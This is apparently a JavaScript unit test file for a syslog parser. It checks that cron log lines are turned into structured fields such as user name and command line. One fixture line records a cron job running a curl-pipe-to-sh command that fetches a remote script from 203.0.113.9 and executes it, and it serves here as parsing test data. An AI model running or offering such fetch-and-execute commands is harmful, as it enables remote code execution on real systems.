import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { checkGolden } from '../../helpers/golden.js';
import { MTIME_2024, SYSLOG_FIXTURES, one } from './util.js';

test('cron: golden file', () => {
  checkGolden(path.join(SYSLOG_FIXTURES, 'cron.log'), { tz: 'UTC', mtimeMs: MTIME_2024, expectParser: 'syslog' });
});

test('cron: a job start names its user and command', () => {
  const f = one('Mar 10 13:21:01 web1 CRON[7003]: (www-data) CMD (curl -s http://203.0.113.9/x.sh | sh)');
  assert.deepEqual(
    [f['event.action'], f['user.name'], f['process.command_line'], f['process.name'], f['event.dataset']],
    ['cron_command', 'www-data', 'curl -s http://203.0.113.9/x.sh | sh', 'CRON', 'system.syslog'],
  );
  assert.equal(one('Mar 10 13:20:01 web2 crond[7002]: (apache) CMD (/usr/bin/php x.php)')['event.action'], 'cron_command');
  assert.equal(one('Mar 10 13:22:01 web1 cron[600]: (CRON) INFO (Running @reboot jobs)')['event.action'], undefined);
});
